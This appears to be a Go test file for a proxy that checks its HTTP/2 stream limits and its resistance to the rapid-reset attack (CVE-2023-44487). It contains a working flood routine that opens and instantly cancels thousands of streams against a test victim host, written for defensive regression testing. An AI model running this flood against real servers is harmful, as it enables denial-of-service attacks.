package attack_test

import (
	"bytes"
	"io"
	"net/http"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	waitingPath = "/waiting"
	// streamsOfOne is how many requests one connection of HTTP/2 may have under way, as docs/proxy.md says.
	streamsOfOne = 250
	// resets is how many streams are opened and reset.
	resets = 20_000
)

// waiting is a provider that does not answer what it is asked at waitingPath until it is cancelled. It counts who waits.
type waiting struct {
	mu         sync.Mutex // guards all below
	now, most  int
	everything int
}

func (a *waiting) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	if r.URL.Path != waitingPath {
		_, _ = io.WriteString(rw, "ok")
		return
	}
	a.count(1)
	defer a.count(-1)
	select {
	case <-r.Context().Done():
	case <-time.After(patience):
	}
}

func (a *waiting) count(n int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.now += n
	a.most = max(a.most, a.now)
	a.everything += max(0, n)
}

func (a *waiting) counts() (now, most, everything int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.now, a.most, a.everything
}

// await waits until as many wait, and fails the test if that does not come to be.
func (a *waiting) await(t *testing.T, what string, enough func(now int) bool) {
	t.Helper()
	for stop := time.Now().Add(patience); ; time.Sleep(10 * time.Millisecond) {
		now, _, _ := a.counts()
		if enough(now) {
			return
		}
		if time.Now().After(stop) {
			t.Fatalf("%s: %d requests wait at the provider", what, now)
		}
	}
}

// manyStreams opens more streams than a connection may have.
func (w *world) manyStreams(t *testing.T, a *waiting) {
	r := w.run(t)
	f := r.flood(t, 8*streamsOfOne, false)
	a.await(t, "many streams", func(now int) bool { return now >= streamsOfOne })
	r.served(t, "beside many streams")
	if _, most, _ := a.counts(); most > streamsOfOne {
		t.Fatalf("%d requests of one connection were under way", most)
	}
	_ = f.closer.Close()
	a.await(t, "after the connection has ended", func(now int) bool { return now == 0 })
}

// rapidResets opens streams and resets each at once (CVE-2023-44487), while others are served.
func (w *world) rapidResets(t *testing.T, a *waiting) {
	r := w.run(t)
	flooded := make(chan *flood, 1)
	go func() { flooded <- r.flood(t, resets, true) }()
	for range 5 {
		r.served(t, "during the flood")
	}
	f := <-flooded
	r.served(t, "after the flood")
	// Nothing is left of what was reset, whether the connection has survived or not.
	a.await(t, "after resets", func(now int) bool { return now == 0 })
	_ = f.closer.Close()
}

// flood is a connection full of requests for waitingPath.
type flood struct{ closer io.Closer }

// flood sends requests for as long as they are taken, and resets them if that is wanted.
func (r *running) flood(t *testing.T, streams int, reset bool) *flood {
	s, err := r.inside(t, victimHost+":443", victimHost, "h2")
	if err != nil {
		t.Error(err)
		return &flood{io.NopCloser(nil)}
	}
	_, _ = io.WriteString(s, http2.ClientPreface)
	f := http2.NewFramer(s, s.br)
	_ = f.WriteSettings()
	go func() { // what it answers is not of interest
		for {
			if _, err := f.ReadFrame(); err != nil {
				return
			}
		}
	}()
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0) // each block is the same
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", waitingPath}, {":authority", victimHost}} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	for n := range streams {
		id := uint32(2*n + 1)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})
		if err == nil && reset {
			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			break // it has been hung up on
		}
	}
	return &flood{s}
}
